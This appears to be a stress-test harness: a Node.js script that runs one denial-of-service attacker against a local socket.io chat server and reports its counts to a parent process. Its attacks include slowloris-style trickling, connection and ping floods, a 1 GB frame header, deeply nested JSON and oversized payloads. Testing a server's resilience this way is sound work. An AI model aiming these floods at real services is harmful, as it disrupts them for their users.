// One hostile client as a process of its own: `node attacker.mjs KIND '{"port":…,"token":…,"roomId":…}'`.
// It attacks until it is told to stop. Once it has begun, and in the end, it says how often it has done what
// it does; it ends when whoever started it ends it, so that the report cannot be overtaken by the end.

import http from "node:http";
import net from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import WebSocket from "ws";

const MAX_CONNECTS_PER_SECOND = 10_000;
// Where an attack has to wait for the server, so many are under way.
const AT_A_TIME = 100;

const [kind, text = "{}"] = process.argv[1]?.endsWith("attacker.mjs") ? process.argv.slice(2) : [];
const { port, token, roomId } = JSON.parse(text);
let count = 0;
let going = true;
process.on("message", () => {
  going = false;
  process.send({ kind, count });
});
process.on("disconnect", () => process.exit(0));

const UPGRADE = "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\n" +
  "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";

const tick = () => new Promise((resolve) => setImmediate(resolve));
const second = () => pause(1_000);

// A connection whatever happens to it; resolves when it is over.
function over(bytes, opened = () => {}) {
  return new Promise((resolve) => {
    const socket = net.connect(port, "127.0.0.1", () => {
      if (bytes) socket.write(bytes);
      opened(socket);
    });
    socket.on("error", () => {}).on("close", resolve).resume();
  });
}

// The same again and again, many at a time.
async function manyTimes(once) {
  await Promise.all(Array.from({ length: AT_A_TIME }, async () => {
    while (going) {
      count += 1;
      await once();
    }
  }));
}

// A client that has entered the chat; resolves when it is over.
function chat(then) {
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://127.0.0.1:${port}/socket.io/?EIO=4&transport=websocket`, { perMessageDeflate: false });
    ws.on("error", () => {}).on("close", resolve);
    ws.on("open", () => ws.send(`40${JSON.stringify({ token })}`));
    ws.on("message", (data) => {
      if (data.toString() === "2") ws.send("3");
      if (data.toString().startsWith("40")) then(ws);
    });
  });
}

// Sends as fast as the socket takes it.
async function flood(ws, packets, send = (packet) => ws.send(packet)) {
  while (going && ws.readyState === WebSocket.OPEN) {
    if (ws.bufferedAmount < 1 << 20) {
      packets.forEach(send);
      count += packets.length;
      await tick();
    } else await pause(1);
  }
}

function post(path, body, headers = {}) {
  return new Promise((resolve) => {
    const options = { host: "127.0.0.1", port, path, method: "POST", agent: false, headers: { "content-length": body.length, ...headers } };
    const request = http.request(options, (response) => response.resume().on("close", resolve));
    request.on("error", resolve).end(body);
  });
}

function open() {
  return new Promise((resolve) => {
    const options = { host: "127.0.0.1", port, path: "/socket.io/?EIO=4&transport=polling", agent: false };
    http.get(options, (response) => {
      let text = "";
      response.on("data", (data) => (text += data)).on("close", () => resolve(/"sid":"([^"]*)"/.exec(text)?.[1]));
    }).on("error", () => resolve());
  });
}

const attacks = {
  // In a busy room, and takes nothing of what is said there.
  "never reads": () => manyTimes(() => chat((ws) => ws._socket.pause())),

  // Heads and frames, a byte a second.
  "a byte a second": () => manyTimes(() => over("", (socket) => {
    const upgrades = Math.random() < 0.5;
    if (upgrades) socket.write(UPGRADE);
    const timer = setInterval(() => socket.write(upgrades ? "\x81" : "G"), 1_000);
    socket.on("close", () => clearInterval(timer));
  })),

  // Half of them say something.
  "connects": async () => {
    for (;;) {
      const until = Date.now() + 1_000;
      let left = MAX_CONNECTS_PER_SECOND;
      while (going && left > 0 && Date.now() < until) {
        count += AT_A_TIME;
        left -= AT_A_TIME;
        await Promise.all(Array.from({ length: AT_A_TIME }, (_, at) => over(at % 2 ? UPGRADE : "", (socket) => socket.end())));
      }
      await pause(Math.max(0, until - Date.now()));
    }
  },

  // FIN and text, masked, with a length of 2^30.
  "a frame of 1 GB": () => manyTimes(() =>
    over(UPGRADE, (socket) => socket.once("data", () => socket.write(Buffer.from("81ff000000004000000001020304", "hex"))))),

  "pings": () => manyTimes(() => chat((ws) => flood(ws, Array(100).fill("x".repeat(125)), (data) => ws.ping(data)))),

  "joins and leaves": () => manyTimes(() => chat((ws) => {
    const room = JSON.stringify({ roomId });
    flood(ws, Array(50).fill([`42["leave_room",${room}]`, `42["join_room",${room}]`, `42["typing",${room}]`]).flat());
  })),

  "deep JSON": () => {
    const deep = "[".repeat(40_000) + "]".repeat(40_000);
    return Promise.all([
      manyTimes(() => chat((ws) => flood(ws, [`42["send_message",${deep}]`, `42["send_message",{"roomId":${deep}}]`]))),
      manyTimes(() => post("/api/auth/login", Buffer.from(`{"username":${deep}}`))),
    ]);
  },

  // Many packets in one payload, and payloads that are longer than allowed.
  "giant payloads": () => manyTimes(async () => {
    const sid = await open();
    if (!sid) return second();
    const path = `/socket.io/?EIO=4&transport=polling&sid=${sid}`;
    await post(path, Buffer.from(`40${JSON.stringify({ token })}`));
    await post(path, Buffer.from(Array(8_000).fill(`42["typing",0]`).join("\x1e")));
    await post(path, Buffer.alloc(20_000_000, "4"));
  }),
};

// Connections that one attacker has at a time, at most.
export const CONNECTIONS = 2 * AT_A_TIME;

export const KINDS = Object.keys(attacks);

if (kind) {
  const begun = setInterval(() => {
    if (count === 0) return;
    clearInterval(begun);
    process.send({ kind, count });
  }, 10);
  await attacks[kind]();
}
